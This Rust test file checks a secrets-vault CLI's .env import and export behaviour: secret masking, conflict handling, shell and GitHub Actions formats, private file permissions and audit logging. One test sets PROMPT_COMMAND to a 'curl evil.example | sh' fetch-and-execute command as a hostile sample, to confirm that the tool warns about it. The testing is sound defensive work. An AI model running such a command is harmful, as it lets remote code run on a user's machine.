//! `vault import` and `vault export`: a .env file in one change (or none at all), the formats
//! other tools read, and secret values that show up only where they were sent.

mod common;

use std::collections::BTreeMap;
use std::process::Output;

use common::*;

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Everything in the vault, as `export --all --format json` gives it.
fn all_values(env: &Env) -> BTreeMap<String, String> {
    serde_json::from_str(&env.ok(&["export", "--all", "--format", "json"])).expect("json")
}

fn kinds(env: &Env) -> BTreeMap<String, String> {
    let list: Vec<serde_json::Value> =
        serde_json::from_str(&env.ok(&["list", "--json"])).expect("json");
    list.iter()
        .map(|e| {
            (
                e["name"].as_str().unwrap().to_owned(),
                e["kind"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn write_env(env: &Env, name: &str, text: &str) -> String {
    let path = env.path(name);
    std::fs::write(&path, text).expect("write .env");
    path.to_string_lossy().into_owned()
}

const SAMPLE: &str = "\u{feff}# the bot's settings\r\n\
export OPENAI_API_KEY=sk-canary-7Qz9XvLm2Rt8WpYb\r\n\
TELEGRAM_BOT_TOKEN=\"12345:tg-token-Hh7\"   # from BotFather\r\n\
LOG_LEVEL=debug\r\n\
MODEL='gpt-4o mini'\r\n\
DATABASE_URL=postgres://app:pw-Zk31@db/app\r\n\
SYSTEM_PROMPT=\"You are terse.\nAnswer in one line.\"\r\n\
EMPTY_TOKEN=\r\n\
\r\n";

#[test]
fn import_adds_everything_with_kinds_guessed_and_values_exact() {
    let env = Env::new();
    env.init();
    let file = write_env(&env, "bot.env", SAMPLE);
    let out = env.run(&["import", &file]);
    assert_success(&out, &["import"]);
    let err = stderr(&out);
    assert!(err.contains("6 added (3 secrets, 3 variables)"), "{err}");
    assert!(
        err.contains("1 skipped (empty, so nothing to keep secret: EMPTY_TOKEN)"),
        "{err}"
    );
    assert!(!err.contains(CANARY) && !stdout(&out).contains(CANARY));

    let values = all_values(&env);
    assert_eq!(values["OPENAI_API_KEY"], CANARY);
    assert_eq!(values["TELEGRAM_BOT_TOKEN"], "12345:tg-token-Hh7");
    assert_eq!(values["MODEL"], "gpt-4o mini");
    assert_eq!(
        values["SYSTEM_PROMPT"],
        "You are terse.\nAnswer in one line."
    );
    assert!(!values.contains_key("EMPTY_TOKEN"));
    let kinds = kinds(&env);
    for (name, kind) in [
        // A name the provider catalog knows, with a value like that provider's keys.
        ("OPENAI_API_KEY", "provider"),
        ("TELEGRAM_BOT_TOKEN", "secret"),
        ("DATABASE_URL", "secret"),
        ("LOG_LEVEL", "variable"),
        ("MODEL", "variable"),
        ("SYSTEM_PROMPT", "variable"),
    ] {
        assert_eq!(kinds[name], kind, "{name}");
    }

    // The same file again changes nothing, not even the file.
    let before = env.snapshot();
    let out = env.run(&["import", &file]);
    assert!(stderr(&out).contains("nothing added"), "{}", stderr(&out));
    let after = env.snapshot();
    let changed = changed_paths(&before, &after);
    assert!(
        changed.iter().all(|p| p.ends_with("audit.log")),
        "{changed:?}"
    );
}

#[test]
fn explicit_kinds_and_stdin() {
    let env = Env::new();
    env.init();
    env.ok_with_stdin(
        &["import", "-", "--kind", "secret"],
        b"LOG_LEVEL=debug\nPORT=8080\n",
    );
    assert_eq!(kinds(&env)["PORT"], "secret");
    env.ok_with_stdin(
        &["import", "-", "--kind", "variable"],
        b"API_TOKEN=not-really\n",
    );
    assert_eq!(kinds(&env)["API_TOKEN"], "variable");
    // An empty value cannot be a secret.
    let before = env.snapshot();
    let out = env.run_with_stdin(&["import", "-", "--kind", "secret"], b"A=1\nB=\n");
    assert_fails_with(&out, "B (line 2)");
    env.assert_unchanged(&before);
}

#[test]
fn dry_run_shows_the_plan_hides_secrets_and_changes_nothing() {
    let env = Env::new();
    env.init();
    env.ok(&["var", "set", "LOG_LEVEL", "info"]);
    let file = write_env(&env, "bot.env", SAMPLE);
    let before = env.snapshot();
    let out = env.run(&["import", &file, "--dry-run", "--on-conflict", "overwrite"]);
    assert_success(&out, &["import", "--dry-run"]);
    env.assert_unchanged(&before);
    let table = stdout(&out);
    assert!(!table.contains(CANARY) && !stderr(&out).contains(CANARY));
    assert!(
        !table.contains("tg-token") && !table.contains("pw-Zk31"),
        "{table}"
    );
    assert!(table.contains("gpt-4o mini"), "{table}");
    assert!(table.contains("overwrite"), "{table}");
    assert!(stderr(&out).contains("Dry run"));

    let json: serde_json::Value = serde_json::from_str(&env.ok(&[
        "import",
        &file,
        "--dry-run",
        "--json",
        "--on-conflict",
        "skip",
    ]))
    .expect("json");
    assert_eq!(json["dry_run"], true);
    let entries = json["entries"].as_array().unwrap();
    let key = entries
        .iter()
        .find(|e| e["name"] == "OPENAI_API_KEY")
        .unwrap();
    assert_eq!(key["value"], serde_json::Value::Null);
    assert_eq!(key["line"], 2);
    let level = entries.iter().find(|e| e["name"] == "LOG_LEVEL").unwrap();
    assert_eq!(level["action"], "keep the vault's value");
    env.assert_unchanged(&before);
}

#[test]
fn a_bad_line_imports_nothing_and_names_the_line_not_the_text() {
    let env = Env::new();
    env.init();
    env.ok(&["var", "set", "KEEP", "1"]);
    let before = env.snapshot();
    for (text, needle) in [
        (
            "A=1\nB=\"sk-canary-7Qz9XvLm2Rt8WpYb\nC=3\n",
            "line 2: the value's opening double quote is never closed",
        ),
        (
            "A=1\n\nsk-canary-7Qz9XvLm2Rt8WpYb\n",
            "line 3: the name is not an environment-variable name",
        ),
        (
            "A=1\nB=two words sk-canary-7Qz9XvLm2Rt8WpYb 'x'\nC=\"a\" sk-canary-7Qz9XvLm2Rt8WpYb\n",
            "line 3: unexpected text after the value's closing quote",
        ),
        ("A=1\nB C=2\n", "line 2: expected '=' after the name"),
        ("A=1\nmy-key=x\n", "line 2: the name is not"),
        ("A=1\nB=\"x\0y\"\n", "line 2: the value contains a NUL byte"),
    ] {
        let file = write_env(&env, "bad.env", text);
        let out = env.run(&["import", &file]);
        assert_fails_with(&out, needle);
        assert!(stderr(&out).contains("bad.env"), "{}", stderr(&out));
        assert!(stderr(&out).contains("nothing was imported"));
        assert!(!stderr(&out).contains(CANARY), "{}", stderr(&out));
        std::fs::remove_file(&file).unwrap();
        env.assert_unchanged(&before);
    }
    let out = env.run_with_stdin(&["import", "-"], b"A=1\nB=\xff\n");
    assert_fails_with(&out, "standard input, line 2: the file is not UTF-8 text");
    let out = env.run(&["import", &env.path("missing.env").to_string_lossy()]);
    assert_fails_with(&out, "cannot read");
    let out = env.run_with_stdin(&["import", "-"], b"# only comments\n\n");
    assert_fails_with(&out, "no NAME=value lines");
    env.assert_unchanged(&before);
}

#[test]
fn conflicts_fail_skip_or_overwrite() {
    let env = Env::new();
    env.init();
    env.ok_with_stdin(&["secret", "add", "API_KEY"], b"old-key");
    env.ok(&["var", "set", "MODE", "slow"]);
    env.ok(&["var", "set", "SAME", "x"]);
    let file = write_env(
        &env,
        "new.env",
        "API_KEY=new-key\nMODE=fast\nSAME=x\nNEW=1\n",
    );

    let before = env.snapshot();
    let out = env.run(&["import", &file]);
    assert_fails_with(&out, "(API_KEY, MODE)");
    assert!(stderr(&out).contains("--on-conflict skip"));
    assert!(!stderr(&out).contains("SAME"), "{}", stderr(&out));
    assert!(!stderr(&out).contains("new-key") && !stderr(&out).contains("old-key"));
    env.assert_unchanged(&before);

    env.ok(&["import", &file, "--on-conflict", "skip"]);
    let values = all_values(&env);
    assert_eq!(
        (values["API_KEY"].as_str(), values["MODE"].as_str()),
        ("old-key", "slow")
    );
    assert_eq!(values["NEW"], "1");

    env.ok(&["import", &file, "--on-conflict", "overwrite"]);
    let values = all_values(&env);
    assert_eq!(
        (values["API_KEY"].as_str(), values["MODE"].as_str()),
        ("new-key", "fast")
    );
    // Overwriting keeps what the vault knew the entry to be.
    assert_eq!(kinds(&env)["API_KEY"], "secret");
}

#[test]
fn attach_gives_an_agent_everything_imported() {
    let env = Env::new();
    env.init();
    let file = write_env(&env, "bot.env", SAMPLE);
    let out = env.run(&["import", &file, "--attach", "bot"]);
    assert_success(&out, &["import", "--attach"]);
    assert!(
        stderr(&out).contains("Created agent bot and attached 6 entries"),
        "{}",
        stderr(&out)
    );
    let seen = env.ok(&[
        "run",
        "bot",
        "--mask",
        "never",
        "--",
        "sh",
        "-c",
        "printf '%s|%s|%s' \"$OPENAI_API_KEY\" \"$MODEL\" \"${EMPTY_TOKEN-unset}\"",
    ]);
    assert_eq!(seen, format!("{CANARY}|gpt-4o mini|unset"));

    // A name that opens the vault is never attached: refused before anything changes.
    let before = env.snapshot();
    let out = env.run_with_stdin(
        &["import", "-", "--attach", "bot"],
        b"A=1\nVAULT_IDENTITY=AGE-SECRET-KEY-1XYZ\n",
    );
    assert_fails_with(&out, "VAULT_IDENTITY (line 2)");
    env.assert_unchanged(&before);
}

/// A vault whose secret API_KEY (the canary) is attached to `agent`.
fn agent_with_canary(agent: &str) -> Env {
    let env = Env::new();
    env.init();
    add_secret(&env, "API_KEY", CANARY);
    env.ok(&["attach", agent, "API_KEY"]);
    env
}

/// Adds a secret whatever its value (through the environment, as CI would).
fn add_secret(env: &Env, name: &str, value: &str) {
    let out = env
        .cmd()
        .env("VALUE", value)
        .args(["secret", "add", name, "--from-env", "VALUE"])
        .output()
        .expect("run vault");
    assert_success(&out, &["secret", "add", name]);
}

#[test]
fn dotenv_export_imports_back_to_the_same_values() {
    let values = nasty_values();
    let env = Env::new();
    env.init();
    for (i, value) in values.iter().enumerate() {
        add_secret(&env, &format!("V{i:02}"), value);
    }
    let exported = env.ok(&["export", "--all"]);

    let other = Env::new();
    other.init();
    other.ok_with_stdin(&["import", "-"], exported.as_bytes());
    let back = all_values(&other);
    for (i, value) in values.iter().enumerate() {
        assert_eq!(&back[&format!("V{i:02}")], value, "V{i:02} in\n{exported}");
    }
}

#[test]
fn shell_export_is_safe_to_eval_in_sh_and_bash() {
    let values = nasty_values();
    let env = Env::new();
    env.init();
    for (i, value) in values.iter().enumerate() {
        add_secret(&env, &format!("V{i:02}"), value);
    }
    let script = env.ok(&["export", "--all", "--format", "shell"]);
    let mut check = String::from("set -eu\neval \"$(cat)\"\n");
    for i in 0..values.len() {
        check += &format!("printf '%s\\0' \"$V{i:02}\"\n");
    }
    for shell in ["sh", "bash"] {
        if !have(shell) {
            continue;
        }
        let mut cmd = std::process::Command::new(shell);
        cmd.args(["-c", &check]);
        let out = run_piped(&mut cmd, script.as_bytes());
        assert!(out.status.success(), "{shell}: {}", stderr(&out));
        let got: Vec<&str> = std::str::from_utf8(&out.stdout)
            .unwrap()
            .split_terminator('\0')
            .collect();
        assert_eq!(got.len(), values.len(), "{shell}");
        for (i, value) in values.iter().enumerate() {
            assert_eq!(got[i], value, "{shell}: V{i:02}");
        }
    }
}

#[test]
fn agent_export_uses_the_agents_names_and_json() {
    let env = Env::new();
    env.init();
    env.ok_with_stdin(&["secret", "add", "DB_URL"], b"postgres://u:pw@db/app");
    env.ok_with_stdin(&["secret", "add", "OTHER"], b"not-for-this-agent");
    env.ok(&["var", "set", "LOG_LEVEL", "debug"]);
    env.ok(&["attach", "bot", "LOG_LEVEL"]);
    env.ok(&["attach", "bot", "DB_URL", "--as", "DATABASE_URL"]);

    let dotenv = env.ok(&["export", "bot"]);
    assert_eq!(
        dotenv,
        "DATABASE_URL=postgres://u:pw@db/app\nLOG_LEVEL=debug\n"
    );
    for args in [
        &["export", "bot", "--format", "json"][..],
        &["export", "bot", "--json"][..],
    ] {
        let json: BTreeMap<String, String> = serde_json::from_str(&env.ok(args)).unwrap();
        assert_eq!(json.len(), 2);
        assert_eq!(json["DATABASE_URL"], "postgres://u:pw@db/app");
    }
    let out = env.run(&["export", "bot", "--json", "--format", "shell"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let out = env.run(&["export", "nobody"]);
    assert_fails_with(&out, "no agent");
    let out = env.run(&["export"]);
    assert_eq!(out.status.code(), Some(2));

    // Each export is in the audit log, by name.
    let audit = env.ok(&["audit", "--json"]);
    let records: Vec<serde_json::Value> = serde_json::from_str(&audit).unwrap();
    let exports: Vec<_> = records.iter().filter(|r| r["event"] == "export").collect();
    assert_eq!(exports.len(), 3, "{audit}");
    assert_eq!(exports[0]["agent"], "bot");
    assert!(!audit.contains("pw@db"));
}

/// The `NAME<<DELIMITER … DELIMITER` blocks of a $GITHUB_ENV file, read as the runner does.
fn read_github_env(text: &str) -> BTreeMap<String, String> {
    let mut values = BTreeMap::new();
    let mut lines = text.split('\n');
    while let Some(line) = lines.next() {
        if line.is_empty() {
            continue;
        }
        let (name, delimiter) = line.split_once("<<").expect("a NAME<<DELIMITER line");
        let mut value = Vec::new();
        for line in lines.by_ref() {
            if line == delimiter {
                break;
            }
            value.push(line);
        }
        values.insert(name.to_owned(), value.join("\n"));
    }
    values
}

#[test]
fn github_format_masks_secrets_and_fills_github_env() {
    let env = Env::new();
    env.init();
    let multi = "-----BEGIN KEY-----\nabc%def\n\n-----END KEY-----";
    add_secret(&env, "API_KEY", CANARY);
    add_secret(&env, "PEM_KEY", multi);
    env.ok(&["var", "set", "MODE", "fast"]);
    env.ok(&["attach", "ci", "API_KEY", "PEM_KEY", "MODE"]);

    let github_env = env.path("github_env");
    std::fs::write(&github_env, "EARLIER=1\n").unwrap();
    let out = env
        .cmd()
        .env("GITHUB_ENV", &github_env)
        .args(["export", "ci", "--format", "github"])
        .output()
        .unwrap();
    assert_success(&out, &["export", "--format", "github"]);
    let masks = stdout(&out);
    assert_eq!(
        masks,
        format!(
            "::add-mask::{CANARY}\n::add-mask::-----BEGIN KEY-----\n::add-mask::abc%25def\n\
             ::add-mask::-----END KEY-----\n"
        )
    );
    let written = std::fs::read_to_string(&github_env).unwrap();
    let first_delimiter = written.lines().nth(2).unwrap().split_once("<<").unwrap().1;
    assert!(first_delimiter.len() >= 32, "{first_delimiter}");
    let mut values = read_github_env(written.strip_prefix("EARLIER=1\n").unwrap());
    assert_eq!(values.remove("API_KEY").as_deref(), Some(CANARY));
    assert_eq!(values.remove("PEM_KEY").as_deref(), Some(multi));
    assert_eq!(values.remove("MODE").as_deref(), Some("fast"));
    assert!(values.is_empty());

    // A fresh delimiter each time.
    let out = env
        .cmd()
        .env("GITHUB_ENV", &github_env)
        .args(["export", "ci", "--format", "github"])
        .output()
        .unwrap();
    assert_success(&out, &["export"]);
    let again = std::fs::read_to_string(&github_env).unwrap();
    assert!(!again[written.len()..].contains(first_delimiter));
}

#[test]
fn export_to_a_file_is_private() {
    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
    let env = agent_with_canary("bot");

    // --output writes mode 0600, replacing what was there.
    let path = env.path("bot.env");
    std::fs::write(&path, "OLD=1\n").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = env.run(&["export", "bot", "--output", &path.to_string_lossy()]);
    assert_success(&out, &["export", "--output"]);
    assert!(stdout(&out).is_empty());
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        format!("API_KEY={CANARY}\n")
    );
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);

    // A shell redirect makes a file others can read: vault says so.
    let shared = env.path("shared.env");
    let file = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o644)
        .open(&shared)
        .unwrap();
    let out = env
        .cmd()
        .args(["export", "bot"])
        .stdout(file)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(
        stderr(&out).contains("a file that others can read (mode 0644)"),
        "{}",
        stderr(&out)
    );
    let out = env.run(&["export", "bot", "--format", "github", "-o", "x"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));

    // Never onto vault's own files: the vault, its backup, or the identity.
    let before = env.snapshot();
    for own in [env.vault_path(), env.backup_path(), env.identity_path()] {
        let out = env.run(&["export", "--all", "--output", &own.to_string_lossy()]);
        assert_fails_with(&out, "one of vault's own files");
    }
    env.assert_unchanged(&before);
}

#[test]
fn an_import_never_turns_a_secret_into_a_variable() {
    let env = Env::new();
    env.init();
    add_secret(&env, "OPENAI_API_KEY", CANARY);
    env.ok(&["var", "set", "PLAIN_TOKEN", "tok-1"]);
    let file = write_env(
        &env,
        "same.env",
        &format!("OPENAI_API_KEY={CANARY}\nPLAIN_TOKEN=tok-1\n"),
    );

    // The same value under --kind variable: unchanged, still secret, never shown.
    let out = env.run(&["import", &file, "--kind", "variable", "--dry-run"]);
    assert_success(&out, &["import", "--dry-run"]);
    assert!(!stdout(&out).contains(CANARY), "{}", stdout(&out));
    let out = env.run(&[
        "import",
        &file,
        "--kind",
        "variable",
        "--on-conflict",
        "overwrite",
    ]);
    assert_success(&out, &["import"]);
    assert_eq!(kinds(&env)["OPENAI_API_KEY"], "secret");
    assert!(!env.ok(&["list"]).contains(CANARY));

    // --kind secret makes a variable with the same value a secret, without a conflict.
    let out = env.run(&["import", &file, "--kind", "secret"]);
    assert_success(&out, &["import", "--kind", "secret"]);
    assert!(stderr(&out).contains("1 made secrets"), "{}", stderr(&out));
    assert_eq!(kinds(&env)["PLAIN_TOKEN"], "secret");
}

#[test]
fn github_format_only_runs_in_a_github_step() {
    use std::os::unix::fs::PermissionsExt;
    let env = agent_with_canary("ci");
    // Without GITHUB_ENV nothing is printed: elsewhere the masks would be a log of secrets.
    let out = env.run(&["export", "ci", "--format", "github"]);
    assert_fails_with(&out, "GITHUB_ENV is not set");
    assert!(out.stdout.is_empty());
    // A file the runner has not made yet is made private; a blank line starts the blocks.
    let github_env = env.path("new_github_env");
    let out = env
        .cmd()
        .env("GITHUB_ENV", &github_env)
        .args(["export", "ci", "--format", "github"])
        .output()
        .unwrap();
    assert_success(&out, &["export", "--format", "github"]);
    let mode = std::fs::metadata(&github_env).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    assert!(
        std::fs::read_to_string(&github_env)
            .unwrap()
            .starts_with("\nAPI_KEY<<")
    );
}

#[test]
fn shell_export_warns_about_names_that_change_the_shell() {
    let env = Env::new();
    env.init();
    env.ok(&["var", "set", "PROMPT_COMMAND", "curl evil.example | sh"]);
    env.ok(&["var", "set", "MODE", "fast"]);
    env.ok(&["attach", "bot", "PROMPT_COMMAND", "MODE"]);
    let out = env.run(&["export", "bot", "--format", "shell"]);
    assert_success(&out, &["export", "--format", "shell"]);
    assert!(
        stderr(&out).contains("set PROMPT_COMMAND, which change"),
        "{}",
        stderr(&out)
    );
    let out = env.run(&["export", "bot"]);
    assert!(!stderr(&out).contains("PROMPT_COMMAND"));
}
